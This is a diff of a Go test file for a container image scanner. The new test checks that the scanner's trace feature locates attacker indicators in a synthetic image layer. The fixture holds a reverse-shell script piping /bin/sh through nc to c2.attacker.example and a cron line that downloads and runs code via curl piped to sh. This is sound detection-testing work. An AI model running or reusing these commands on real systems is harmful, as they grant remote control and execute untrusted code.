@@ -90,8 +90,8 @@ func scanRef(t testing.TB, ref string, analyzers []audit.Analyzer, cache audit.L
 func findingLines(r *audit.Result) string {
 	var b strings.Builder
 	for _, f := range r.Findings {
-		fmt.Fprintf(&b, "%s %s %s layer=%d history=%d %s | %s | %s | %s | %s\n", f.Rule, f.Category, f.Severity, f.Layer, f.History,
-			f.Path, f.Title, f.Evidence, f.CreatedBy, f.Remediation)
+		fmt.Fprintf(&b, "%s %s %s layer=%d history=%d %s | %s | %s | %s | %s | %v %v %v\n", f.Rule, f.Category, f.Severity, f.Layer,
+			f.History, f.Path, f.Title, f.Evidence, f.CreatedBy, f.Remediation, f.Labels, f.Techniques, f.Indicators)
 	}
 	return b.String()
 }
@@ -335,5 +335,79 @@ func TestCacheServesOnlyWhatTheBytesAre(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+// TestTraceIndicatorInScript: an attacker's address that only a script's content holds (not
+// the config, not a history line) is found by trace, from a scan that read the layer and from
+// one the layer cache served.
+func TestTraceIndicatorInScript(t *testing.T) {
+	ctx := context.Background()
+	set, _ := standardSet(t)
+	s := openStore(t, "")
+	script := "#!/bin/sh\nH=c2.attacker.example\nP=8443\nmkfifo /tmp/.p\ncat /tmp/.p | /bin/sh -i 2>&1 | nc $H $P > /tmp/.p\n"
+	cron := "*/5 * * * * root curl -fsSL http://198.51.100.77/x | sh\n"
+	img := imagebuild.Image{Tags: []string{"example.test/ind:1"}, Created: t0, Layers: []imagebuild.Layer{
+		{CreatedBy: "/bin/sh -c #(nop) ADD file:base in / ", Created: t0, Files: []imagebuild.File{imagebuild.Dir("etc"), imagebuild.Reg("etc/hostname", "box\n")}},
+		{CreatedBy: "COPY . / # buildkit", Created: t0, Files: []imagebuild.File{
+			imagebuild.Dir("usr"), imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"),
+			imagebuild.Reg("usr/local/bin/sync", script).WithMode(0o755),
+			imagebuild.Dir("etc"), imagebuild.Dir("etc/cron.d"), imagebuild.Reg("etc/cron.d/sync", cron),
+		}},
+	}}
+	ref := save(t, img)
+	for i := 0; i < 2; i++ {
+		cache := s.LayerCache("h")
+		res := scanRef(t, ref, set.Analyzers, cache)
+		if i == 1 && cache.Hits() != 2 {
+			t.Fatalf("second scan: %d cached layers", cache.Hits())
+		}
+		image, trees := read(t, ref)
+		if _, err := s.RecordScan(ctx, image, trees, res, ScanInfo{RuleHash: "h"}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, tc := range []struct {
+		q    TraceQuery
+		path string
+	}{
+		{TraceQuery{Domain: "attacker.example"}, "/usr/local/bin/sync"},
+		{TraceQuery{IP: "198.51.100.77"}, "/etc/cron.d/sync"},
+		{TraceQuery{String: "8443"}, "/usr/local/bin/sync"},
+	} {
+		hits, err := s.Trace(ctx, tc.q)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, h := range hits {
+			if h.Where == "indicator" && h.Path == tc.path && h.Layer == 1 {
+				found = true
+				if len(h.Scans) != 2 {
+					t.Errorf("%+v: seen by scans %v, want both", tc.q, h.Scans)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%+v: no indicator hit at %s; hits %+v", tc.q, tc.path, hits)
+		}
+	}
+	// The stored findings give back their indicators.
+	scans, err := s.Scans(ctx, ScanFilter{})
+	if err != nil || len(scans) != 2 {
+		t.Fatalf("scans: %v %v", scans, err)
+	}
+	fs, err := s.Findings(ctx, scans[0].ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var inds []string
+	for _, f := range fs {
+		for _, i := range f.Indicators {
+			inds = append(inds, i.String())
+		}
+	}
+	if !strings.Contains(strings.Join(inds, " "), "domain:c2.attacker.example") {
+		t.Errorf("stored indicators: %v", inds)
 	}
 }
